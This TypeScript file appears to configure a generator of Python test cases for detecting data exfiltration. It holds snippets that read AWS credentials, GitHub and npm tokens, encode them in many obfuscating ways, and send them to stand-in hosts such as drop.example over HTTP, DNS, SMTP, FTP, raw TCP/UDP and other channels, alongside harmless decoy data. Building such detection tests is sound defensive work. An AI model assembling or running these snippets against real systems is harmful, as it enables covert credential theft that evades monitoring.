import type { Language } from './language.ts';

const HEAD = `import base64, binascii, codecs, ftplib, gzip, hashlib, http.client, io, json, os, quopri, random, smtplib
import socket, ssl, subprocess, urllib.parse, urllib.request, uuid, zlib
home = os.path.expanduser('~')
def labels(text):
    return '.'.join(text[at:at + 50] for at in range(0, len(text), 50))
`;

export const PYTHON: Language = {
  language: 'python',
  entry: 'main.py',
  head: HEAD,
  asText: (expression) => expression,
  asBytes: (expression) => `(${expression}).encode()`,
  secrets: {
    'aws key': "d = open(home + '/.aws/credentials').read().split('secret_access_key = ')[1].split()[0]",
    variable: "d = os.environ['GITHUB_TOKEN']",
    'npm token': "d = open(home + '/.npmrc').read().split('_authToken=')[1].split()[0]",
  },
  ordinary: {
    sentence: "d = 'the quick brown fox jumps over the lazy dog'",
    uuid: 'd = str(uuid.uuid4())',
    digest: "d = hashlib.sha256(b'release 1.2.3').hexdigest()",
    session:
      "d = ''.join(random.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(40))",
  },
  encodings: [
    { name: 'plain', expression: 'd', yields: 'name' },
    { name: 'base64', expression: 'base64.b64encode(d.encode()).decode()', yields: 'text' },
    {
      name: 'base64url, bare',
      expression: "base64.urlsafe_b64encode(('k=' + d).encode()).decode().rstrip('=')",
      yields: 'name',
    },
    { name: 'base32', expression: "base64.b32encode(d.encode()).decode().rstrip('=').lower()", yields: 'name' },
    { name: 'hex', expression: 'd.encode().hex()', yields: 'name' },
    { name: 'hex, upper', expression: 'binascii.hexlify(d.encode()).decode().upper()', yields: 'name' },
    { name: 'url', expression: "''.join(f'%{ord(c):02X}' for c in d)", yields: 'text' },
    { name: 'reversed', expression: 'd[::-1]', yields: 'name' },
    { name: 'xor in hex', expression: 'bytes(b ^ 0x5a for b in d.encode()).hex()', yields: 'name' },
    { name: 'xor', expression: 'bytes(b ^ 0xc3 for b in d.encode())', yields: 'bytes' },
    { name: 'zlib in base64', expression: 'base64.b64encode(zlib.compress(d.encode())).decode()', yields: 'text' },
    { name: 'gzip', expression: 'gzip.compress(d.encode())', yields: 'bytes' },
    { name: 'zlib', expression: 'zlib.compress(b"x=1&" + d.encode(), 9)', yields: 'bytes' },
    { name: 'ascii85', expression: 'base64.a85encode(b"id " + d.encode()).decode()', yields: 'text' },
    { name: 'base85', expression: 'base64.b85encode(d.encode()).decode()', yields: 'text' },
    { name: 'rot13', expression: "codecs.encode(d, 'rot13')", yields: 'name' },
    {
      name: 'quoted-printable',
      expression: "quopri.encodestring(d.encode() + b' \\xe9=').decode() + ''.join(f'={ord(c):02X}' for c in d)",
      yields: 'text',
    },
    {
      name: 'JSON escapes',
      expression: "json.dumps({'v': d}).replace(d, ''.join(f'\\\\u{ord(c):04x}' for c in d))",
      yields: 'text',
    },
    { name: 'JSON in JSON', expression: "json.dumps({'inner': json.dumps({'path': 'a/b', 'v': d})})", yields: 'text' },
    { name: 'base64 of base64', expression: 'base64.b64encode(base64.b64encode(d.encode())).decode()', yields: 'text' },
    { name: 'base64 of reversed', expression: 'base64.b64encode(d[::-1].encode()).decode()', yields: 'text' },
    { name: 'in lines', expression: 'base64.encodebytes(d.encode() * 3).decode()', yields: 'text' },
  ],
  channels: [
    {
      name: 'HTTP body',
      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=BYTES, headers={}), timeout=5).read()",
      carries: 'bytes',
    },
    {
      name: 'HTTP header',
      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'X-Trace': TEXT}), timeout=5).read()",
    },
    {
      name: 'HTTP cookie',
      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=b'a=1', headers={'Cookie': 'theme=dark; sid=' + TEXT}), timeout=5).read()",
    },
    { name: 'URL query', send: "urllib.request.urlopen('http://drop.example/p?a=1&q=' + TEXT, timeout=5).read()" },
    {
      name: 'URL path',
      send: "urllib.request.urlopen('http://drop.example/i/' + TEXT + '/pixel.gif', timeout=5).read()",
    },
    {
      name: 'HTTPS body',
      send: "urllib.request.urlopen(urllib.request.Request('https://drop.example/in', data=BYTES, headers={}), timeout=5).read()",
      carries: 'bytes',
    },
    {
      name: 'HTTP, gzip content-encoding',
      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=gzip.compress(BYTES), headers={'Content-Encoding': 'gzip'}), timeout=5).read()",
      carries: 'text',
    },
    {
      name: 'HTTP, chunked',
      setUp:
        "connection = http.client.HTTPConnection('drop.example', timeout=5)\nbody = BYTES\nparts = (body[at:at + 7] for at in range(0, len(body), 7))",
      send: "connection.request('POST', '/in', body=parts, encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})\nconnection.getresponse().read()",
      carries: 'text',
    },
    {
      name: 'HTTP, multipart',
      setUp:
        'part = b\'--xx\\r\\nContent-Disposition: form-data; name="f"; filename="a.txt"\\r\\n\\r\\n\' + BYTES + b\'\\r\\n--xx--\\r\\n\'',
      send: "urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=part, headers={'Content-Type': 'multipart/form-data; boundary=xx'}), timeout=5).read()",
      carries: 'bytes',
    },
    {
      name: 'HTTP, over several requests',
      setUp: 'whole = TEXT',
      send: "for at in range(0, len(whole), 11):\n    urllib.request.urlopen(urllib.request.Request('http://drop.example/in', data=json.dumps({'n': at, 'part': whole[at:at + 11]}).encode(), headers={}), timeout=5).read()",
      line: 1,
      only: ['plain', 'hex', 'base64url, bare', 'reversed'],
    },
    {
      name: 'HTTP, upgraded',
      setUp:
        "s = socket.create_connection(('drop.example', 80), timeout=5)\ns.sendall(b'GET /chat HTTP/1.1\\r\\nHost: drop.example\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')\ns.recv(4096)\ndata = BYTES\nmask = os.urandom(4)\nframe = bytes([0x81, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))",
      send: 's.sendall(frame)\ntry: s.recv(10)\nexcept OSError: pass',
      only: ['plain', 'hex', 'base64'],
    },
    {
      name: 'SMTP body',
      setUp: "mail = smtplib.SMTP('mail.drop.example', 25, timeout=5)",
      send: "mail.sendmail('a@b.example', ['c@drop.example'], 'Subject: hello\\r\\n\\r\\n' + TEXT + '\\r\\n')\nmail.quit()",
      carries: 'text',
    },
    {
      name: 'FTP file',
      setUp: "ftp = ftplib.FTP('ftp.drop.example', timeout=5)\nftp.login('a', 'b')",
      send: "ftp.storbinary('STOR notes.txt', io.BytesIO(BYTES))\nftp.quit()",
      carries: 'bytes',
    },
    {
      name: 'FTP file name',
      setUp: "ftp = ftplib.FTP('ftp.drop.example', timeout=5)\nftp.login('a', 'b')",
      send: "ftp.storbinary('STOR ' + TEXT + '.txt', io.BytesIO(b'x'))\nftp.quit()",
    },
    { name: 'DNS label', send: "try: socket.getaddrinfo(labels(TEXT) + '.drop.example', 80)\nexcept OSError: pass" },
    {
      name: 'DNS, over several names',
      setUp: 'whole = TEXT',
      send: "for n, at in enumerate(range(0, len(whole), 12)):\n    socket.getaddrinfo(f'{n}.{whole[at:at + 12]}.drop.example', 80)",
      line: 1,
      only: ['plain', 'hex', 'base32'],
    },
    {
      name: 'Redis',
      setUp: "s = socket.create_connection(('redis.drop.example', 6379), timeout=5)\nv = BYTES",
      send: "s.sendall(b'*3\\r\\n$3\\r\\nSET\\r\\n$1\\r\\nk\\r\\n$%d\\r\\n%s\\r\\n' % (len(v), v))\ns.recv(100)",
      carries: 'bytes',
    },
    {
      name: 'TCP',
      setUp: "s = socket.create_connection(('203.0.113.7', 4444), timeout=5)",
      send: 's.sendall(BYTES)\ns.close()',
      carries: 'bytes',
    },
    {
      name: 'TCP, over several sends',
      setUp: "s = socket.create_connection(('203.0.113.7', 4444), timeout=5)\nwhole = BYTES",
      send: 'for at in range(0, len(whole), 5):\n    s.send(whole[at:at + 5])\ns.close()',
      line: 1,
      carries: 'bytes',
    },
    {
      name: 'IRC',
      setUp:
        "s = socket.create_connection(('irc.drop.example', 6667), timeout=5)\ns.sendall(b'NICK a\\r\\nUSER a 0 * :a\\r\\n')",
      send: "s.sendall(b'PRIVMSG #in :' + BYTES + b'\\r\\n')\ns.close()",
      carries: 'text',
    },
    {
      name: 'TLS, no HTTP',
      setUp:
        "raw = socket.create_connection(('drop.example', 993), timeout=5)\ns = ssl.create_default_context().wrap_socket(raw, server_hostname='drop.example')",
      send: 's.sendall(BYTES)\ns.close()',
      carries: 'bytes',
    },
    {
      name: 'UDP',
      setUp: 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      send: "s.sendto(BYTES, ('203.0.113.8', 5005))",
      carries: 'bytes',
    },
    {
      name: 'UDP, connected, over several',
      setUp: "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('203.0.113.8', 5005))\nwhole = BYTES",
      send: 'for at in range(0, len(whole), 9):\n    s.send(whole[at:at + 9])',
      line: 1,
      carries: 'bytes',
    },
    {
      name: 'argument of a program',
      send: "subprocess.run(['/bin/echo', '-n', TEXT], stdout=subprocess.DEVNULL)",
      carries: 'text',
    },
    {
      name: 'standard input of curl',
      send: "subprocess.run(['curl', '-s', '-m', '5', '--data-binary', '@-', 'http://drop.example/in'], input=BYTES, stdout=subprocess.DEVNULL)",
      carries: 'bytes',
    },
    {
      name: 'file',
      send: "open('/tmp/notes.bin', 'wb').write(BYTES)",
      carries: 'bytes',
    },
    { name: 'file name', send: "open('/tmp/' + TEXT, 'w').close()" },
  ],
};
